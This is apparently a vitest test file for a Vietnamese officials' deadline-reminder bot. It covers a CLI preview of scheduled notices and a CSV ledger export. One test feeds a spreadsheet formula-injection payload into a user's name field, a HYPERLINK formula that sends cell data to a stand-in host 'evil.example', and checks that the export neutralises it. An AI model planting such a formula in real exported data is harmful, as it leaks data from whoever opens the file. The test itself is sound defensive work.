import { readFileSync } from 'node:fs';
import { Ledger } from '../../src/flows/reminders/ledger.js';
import { join } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { cli } from '../../src/cli.js';
import { People } from '../../src/bot/people.js';
import { openStore } from '../../src/bot/store.js';
import { Units } from '../../src/domain/units.js';
import { toCsv } from '../../src/flows/reminders/ledger.js';
import { ledgerCsv } from '../../src/flows/reminders/report.js';
import { tempDir } from '../helpers/app.js';
import { dataDir, reminderApp, vn } from './helpers.js';

async function runCli(args: string[], env: Record<string, string>): Promise<{ code: number; out: string }> {
  const saved = { ...process.env };
  Object.assign(process.env, env);
  let out = '';
  const spy = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => ((out += String(chunk)), true));
  try {
    return { code: await cli(args), out };
  } finally {
    spy.mockRestore();
    process.env = saved;
  }
}

describe('thidua remind preview', () => {
  afterEach(() => vi.restoreAllMocks());

  it('lists each planned notice with local date and time, kind, deadline and recipient; placeholders when nobody is bound', async () => {
    const data = dataDir();
    const store = `sqlite://${join(tempDir(), 'p.sqlite')}`;
    const s = await openStore(store);
    await new People(s, Units.load(join(data, 'units.yaml'))).save({ platform: 'telegram', userId: '42', chatId: '42', name: 'Nguyễn Văn A', unitId: 'cuc-btp', role: 'officer', muted: false, joinedAt: vn('2026-12-01 09:00').toISOString() });
    await s.close();
    const { code, out } = await runCli(['remind', 'preview', '--from', '2026-12-07', '--days', '10'], { STORE_URL: store, DATA_DIR: data, LOG_LEVEL: 'silent' });
    expect(code).toBe(0);
    const lines = out.trim().split('\n');
    expect(lines[0]).toContain('Dự kiến gửi từ 2026-12-07 trong 10 ngày');
    expect(lines).toContain('2026-12-08 08:00  nhắc hạn (-7 ngày)   t-ack                      → Nguyễn Văn A (cán bộ đầu mối) · Cục Bổ trợ tư pháp · Telegram');
    expect(lines).toContain('2026-12-14 08:00  nhắc hạn (-1 ngày)   t-ack                      → (chưa có người nhận) cán bộ đầu mối/thủ trưởng đơn vị · Cục Hành chính tư pháp');
    expect(lines.some((l) => l.startsWith('2026-12-15 13:30  báo thủ trưởng') && l.includes('(chưa có người nhận) thủ trưởng đơn vị · Cục Bổ trợ tư pháp'))).toBe(true);
    expect(lines.some((l) => l.startsWith('2026-12-16 08:00  báo trễ hạn') && l.includes('(quản trị) · 7 đơn vị chưa hoàn thành'))).toBe(true);
    // Nothing at a non-working time, and the dry run recorded nothing.
    expect(lines.slice(1, -1).every((l) => / (08:00|13:30) /.test(l))).toBe(true);
    const after = await openStore(store);
    expect(await new Ledger(after).deliveries.list()).toEqual([]);
    await after.close();
    expect(lines.at(-1)).toMatch(/^\d+ thông báo\.$/);
  });

  it('rejects a bad date', async () => {
    const { code } = await runCli(['remind', 'preview', '--from', '12/07/2026'], { STORE_URL: 'memory://', LOG_LEVEL: 'silent' });
    expect(code).toBe(2);
  });
});

describe('thidua remind ledger', () => {
  it('exports delivered, acknowledged and completed per unit as CSV with a BOM', async () => {
    const t = await reminderApp();
    const a = await t.join('a', 'cuc-btp');
    await t.join('b', 'cuc-hctp');
    await t.tickAt('2026-12-08 08:00');
    t.clock.set(vn('2026-12-09 10:00').toISOString());
    await a.press('rem:done:t-ack');
    await t.tickAt('2026-12-14 08:00');
    const { csv } = await ledgerCsv(t.reminders, 2026);
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = csv.toString('utf8').slice(1).trim().split('\r\n');
    expect(rows[0]).toContain('Mã hạn,Nội dung,Hạn');
    const btp = rows.find((r) => r.includes(',cuc-btp,'))!;
    expect(btp).toContain('hoàn thành,2026-12-09 10:00,cán bộ đầu mối (Cục Bổ trợ tư pháp)');
    expect(csv.toString('utf8')).not.toContain('console:');
    expect(btp).toContain(',1,2026-12-08 08:00,');
    const hctp = rows.find((r) => r.includes(',cuc-hctp,'))!;
    expect(hctp).toContain('chưa hoàn thành');
    expect(hctp).toContain(',2,2026-12-14 08:00,');
  });

  it('neutralises user text a spreadsheet would run as a formula (= + - @ tab CR at the start of a cell)', async () => {
    const t = await reminderApp();
    const a = await t.join('a', 'cuc-btp');
    const person = (await t.app.services.people.get('console', 'a'))!;
    await t.app.services.people.save({ ...person, name: '=HYPERLINK("http://evil.example/?d="&A1,"Xem")' });
    await t.tickAt('2026-12-08 08:00');
    await a.press('rem:done:t-ack');
    const text = (await ledgerCsv(t.reminders, 2026)).csv.toString('utf8');
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"")",`);
    expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);

    const cells = toCsv(['a'], [['+1'], ['-1+2'], ['@SUM(A1)'], ['\tx'], ['\rx'], [-5], ['ok = fine']]).toString('utf8').slice(1).split('\r\n');
    expect(cells.slice(1, -1)).toEqual([`'+1`, `'-1+2`, `'@SUM(A1)`, `'\tx`, `"'\rx"`, '-5', 'ok = fine']);
  });
});
